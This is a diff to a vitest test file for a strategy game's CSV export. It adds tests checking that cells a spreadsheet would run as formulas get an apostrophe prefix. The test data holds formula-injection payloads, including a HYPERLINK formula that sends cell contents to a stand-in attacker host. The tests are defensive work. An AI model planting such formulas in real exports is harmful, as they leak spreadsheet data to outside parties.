@@ -5,12 +5,13 @@
  */
 import { describe, expect, it } from 'vitest';
 import {
-  DECISION_COLUMNS, EVENT_COLUMNS, NATIONAL_COLUMNS, REGION_COLUMNS, SIDES, csvField, toCsv, totalCocaHa, type GameEvent, type Order,
+  DECISION_COLUMNS, EVENT_COLUMNS, NATIONAL_COLUMNS, REGION_COLUMNS, SIDES, appendTurn, createGame, csvField, findScenario, newLog,
+  resolveTurn, toCsv, totalCocaHa, type GameEvent, type Order,
 } from '../../game/index';
 import { cliI18n } from '../../cli/i18n';
-import { reportCsvFiles } from '../../renderer/report/csv';
-import { describeEvent, describeOrder } from '../../renderer/report/describe';
-import { eventSide } from '../../renderer/view-model/event-log';
+import { reportCsvFiles } from '../../report/csv';
+import { describeEvent, describeOrder } from '../../report/describe';
+import { eventSide } from '../../report/event-log';
 import { csvRecords, NOTES, parseCsv, sixTurnGame } from './helpers';
 
 const game = sixTurnGame();
@@ -125,9 +126,41 @@ describe.each(['en', 'es'] as const)('the CSV files (%s)', (lang) => {
 
 describe('CSV quoting', () => {
   it('round-trips any text through the parser', () => {
-    const nasty = ['plain', 'a,b', 'say "hi"', 'two\nlines', 'crlf\r\nline', '"', '', ' lead and trail ', 'Apurímac, Junín y Huánuco', '=1+1', 'ñ€😀'];
+    const nasty = ['plain', 'a,b', 'say "hi"', 'two\nlines', 'crlf\r\nline', '"', '', ' lead and trail ', 'Apurímac, Junín y Huánuco', 'x=1+1', 'ñ€😀'];
     const text = toCsv({ columns: ['a', 'b'], rows: nasty.map((x, i) => [i, x]) });
     expect(parseCsv(text)).toEqual([['a', 'b'], ...nasty.map((x, i) => [String(i), x])]);
     expect(parseCsv(toCsv({ columns: ['x'], rows: [['é']] }, { bom: true }))).toEqual([['x'], ['é']]);
+  });
+
+  it('neutralises text that a spreadsheet would run as a formula, and leaves numbers numbers', () => {
+    const formulas = ['=1+1', '+SUM(A1:A9)', '-2+3', '@SUM(1)', '\tcmd', '\rcmd', '=HYPERLINK("http://x.example","a,b")'];
+    const text = toCsv({ columns: ['n', 'text'], rows: formulas.map((f, i) => [-(i + 0.5), f]) });
+    const rows = parseCsv(text).slice(1);
+    rows.forEach(([n, cell], i) => {
+      expect(cell).toBe(`'${formulas[i]}`);
+      // A negative number in a numeric column is still a number (no apostrophe, no quotes).
+      expect(n).toBe(String(-(i + 0.5)));
+    });
+    expect(text.split('\n')[1]).toBe("-0.5,'=1+1");
+    expect(csvField('a=b')).toBe('a=b');
+    expect(csvField(-12)).toBe('-12');
+  });
+
+  it('neutralises a formula a team typed in its note, in decisions.csv of a real game', () => {
+    const scenario = findScenario('interdiction-2016')!;
+    const start = createGame(scenario, 3, { turns: 2 });
+    const note = '=HYPERLINK("http://attacker.example/?"&A1,"Click for the briefing")';
+    const input = { orders: [{ side: 'state' as const, orders: [], note }, { side: 'clans' as const, orders: [], note: '-offload at Paita' }] };
+    const r = resolveTurn(start, input);
+    if (!r.ok) throw new Error(r.errors[0]!.message);
+    const log = appendTurn(newLog(start), input, r.state);
+    const { t } = cliI18n('en');
+    const csv = reportCsvFiles({ log, states: [start, r.state], events: [r.events] }, t).find((f) => f.name === 'decisions.csv')!.content;
+    const { records } = csvRecords(csv);
+    expect(records.find((x) => x.side === 'state')!.note).toBe(`'${note}`);
+    expect(records.find((x) => x.side === 'clans')!.note).toBe("'-offload at Paita");
+    expect(records.find((x) => x.side === 'insurgents')!.note).toBe('');
+    // The log keeps the note as typed: only the spreadsheet export is neutralised.
+    expect(log.entries[0]!.input.orders[0]!.note).toBe(note);
   });
 });
